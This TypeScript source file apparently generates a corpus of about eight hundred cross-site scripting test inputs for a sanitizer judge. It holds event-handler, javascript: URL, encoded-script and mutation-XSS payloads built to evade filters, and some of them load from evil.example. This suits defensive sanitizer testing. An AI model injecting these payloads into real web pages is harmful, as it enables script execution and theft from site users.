/**
 * HTML that tries to run a script or to send a request, generated from a grammar: elements with handlers, notations
 * of an attribute, places where an address is followed, spellings of an address, and markup that changes its meaning
 * when it is parsed a second time. The judge detects any script, so their effects do not matter.
 */

/** Parsed as raw text or by other rules, so their content may become active outside. */
const CONTAINERS = (
  'xmp noembed noframes noscript plaintext textarea title style iframe ' +
  'template svg math select listing option'
).split(' ');

/** An element that fires by itself or when touched, with the name of its handler. */
const TRIGGERS: [element: string, handler: string][] = [
  ['img src=x', 'onerror'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['a href=# tabindex=0', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['p', 'onclick'],
  ['span', 'onmouseover'],
  ['div contenteditable', 'oninput'],
  ['button popovertarget=p', 'onbeforetoggle'],
  ['form', 'onsubmit'],
  ['p style=animation-name:x', 'onanimationstart'],
  ['math><mi', 'onclick'],
  ['x-own', 'onpointerover'],
];

/** Notations of an attribute that filters by pattern are known to miss. */
const SPELLINGS: ((handler: string) => string)[] = [
  (handler) => ` ${handler}="1+1">x`,
  (handler) => ` ${handler}='1+1'>x`,
  (handler) => ` ${handler}=1+1>x`,
  (handler) => `/${handler}=1+1//>x`,
  (handler) => `\n${handler.toUpperCase()}\t=\f"1+1" >x`,
  (handler) => ` x="\`" ${handler}=\`1+1\` '>x`,
  (handler) => ` ${handler}="&#49;&plus;&#x31">x`,
  (handler) => ` "${handler}=1+1 x="' ${handler}=1+1 y='">x`,
  (handler) => ` class="a" class="b" ${handler}=1+1`,
  (handler) => ` title="&quot; ${handler}=1+1">x</a title=">" ${handler}=1+1>`,
];

/** Places where an address is followed, automatically or when touched. */
const SINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' ping='${address}' target=_blank>x</a>`,
  (address) => `<map><area href="${address}" shape=default></map>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}" form=f>x</button><form id=f></form>`,
  (address) => `<input type=image src="${address}" formaction="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"><param name=movie value="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}"><img src=x>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=stylesheet href="${address}"><link rel=prefetch href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<img src="${address}" srcset="${address} 2x" lowsrc="${address}">`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<video poster="${address}" src="${address}"><track src="${address}" default></video>`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<p style="background:url('${address}');list-style:url(${address})">x</p>`,
  (address) => `<style>@import '${address}';p{background:url(${address})}</style><p>x`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#a"/><image href="${address}"/><script href="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text>x</text></a></svg>`,
  (address) => `<math><mi href="${address}" xlink:href="${address}">x</mi></math>`,
  (address) => `<blockquote cite="${address}">x</blockquote><html manifest="${address}">`,
];

/** Spellings of an address that runs a script or sends a request. */
const ADDRESSES = [
  'javascript:1+1',
  'JaVaScRiPt:1+1',
  ' \u0001javascript:1+1',
  'java&Tab;script&colon;1+1',
  'java\nscript:1+1',
  '&#106;&#97vascript:1+1',
  '&#x6A&#x61;vascript&#58;1+1',
  'javascript://%0a1+1',
  'javascript:/*--></title></style></textarea></script><svg/onload=1+1>*/1+1',
  'vbscript:1+1',
  'data:text/html,&lt;script>1+1&lt;/script>',
  'data:text/html;base64,PHNjcmlwdD4xKzE8L3NjcmlwdD4=',
  'data:image/svg+xml,&lt;svg onload=1+1 xmlns=&quot;http://www.w3.org/2000/svg&quot;>',
  'blob:https://evil.example/x',
  'view-source:javascript:1+1',
  'filesystem:https://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example/x" onerror="1+1',
];

const SCRIPTS = [
  '<script>1+1</script>',
  '<SCRIPT/x>1+1</SCRIPT x>',
  '<script type=module>1+1</script>',
  '<script>1+1',
  '<script>1+1<!--<script></script',
  '<<script>1+1//<</script>',
  '<scr<script>ipt>1+1</scr</script>ipt>',
  '<scr\u0000ipt>1+1</script>',
  '<svg><script>1+1</script></svg>',
  '<svg><script><![CDATA[1+1]]></script></svg>',
  '<math><script>1+1</script></math>',
  '<template shadowrootmode=open><script>1+1</script></template>',
  '<iframe srcdoc="<script>1+1</script>"></iframe>',
  '<object type=text/html data="data:text/html,<script>1+1</script>"></object>',
  '&lt;script&gt;1+1&lt;/script&gt;',
  '%3Cscript%3E1+1%3C/script%3E',
  '\u00bcscript\u00be1+1\u00bc/script\u00be',
  '\uff1cscript\uff1e1+1\uff1c/script\uff1e',
];

/** Markup whose tree changes when it is serialised and parsed again, or between two parsers. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=x onerror=1+1>">',
  '<math></p><style><!--</style><img src=x onerror=1+1>--></style></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=1+1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=1+1>',
  '<svg><title><style><![CDATA[</title><img src=x onerror=1+1>]]></style></title></svg>',
  '<svg><desc><p><![CDATA[><img src=x onerror=1+1>]]></p></desc></svg>',
  '<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=1+1></style></mglyph></mi></math></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=1+1></style></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><p><noscript><img title="</noscript><img src=x onerror=1+1>">',
  '<noscript><p title="</noscript><img src=x onerror=1+1>"></noscript>',
  '<textarea><a title="</textarea><img src=x onerror=1+1>"></textarea>',
  '<title><a title="</title><img src=x onerror=1+1>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=1+1>"></xmp>',
  '<noembed><p title="</noembed><svg onload=1+1>"></noembed>',
  '<noframes><style></noframes><img src=x onerror=1+1></style>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=1+1>">',
  '<table><caption><svg><title></table><style></svg><img src=x onerror=1+1>',
  '<a><table><a href="javascript:1+1">x</table></a>',
  '<b><p><i></b></p><img src=x onerror=1+1></i>',
  '<!--><img src=x onerror=1+1>-->',
  '<!--!><img src=x onerror=1+1>--!><svg onload=1+1>',
  '<![CDATA[><img src=x onerror=1+1>]]>',
  '<?xml version="1.0"?><?x ?><img src=x onerror=1+1>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=1+1>">]>&y;',
  '<p id=document><form name=body><input name=attributes><input name=nodeName></form>',
  '<span class="rt-color-rubric&quot; onmouseover=&quot;1+1">x</span>',
  '<p dir="rtl&quot; onclick=&quot;1+1" class="rt-align-end rt-size-9">x</p>',
  `${'<b>'.repeat(62)}<img src=x onerror=1+1>`,
  `${'<p><table><tr><td>'.repeat(14)}<script>1+1</script>`,
  '<plaintext><img src=x onerror=1+1>',
];

/** All unwrapped attacks, about eight hundred. */
export const ATTACKS: readonly string[] = [
  ...TRIGGERS.flatMap(([element, handler]) => SPELLINGS.map((spell) => `<${element}${spell(handler)}`)),
  ...SINKS.flatMap((sink) => ADDRESSES.map(sink)),
  ...SCRIPTS,
  ...MUTATIONS,
];

/** An attack alone and inside each container: properly closed, and breaking out of an attribute. */
export function wrappings(attack: string): string[] {
  return [
    attack,
    ...CONTAINERS.map((name, place) =>
      place % 2 === 0
        ? `<p>أ</p><${name}>${attack}</${name}><p>ب</p>`
        : `<p>أ<${name}><p title="</${name}>${attack}">ب</p>`,
    ),
  ];
}

/** How many variants of an attack there are, including itself. */
export const WRAPPINGS = CONTAINERS.length + 1;
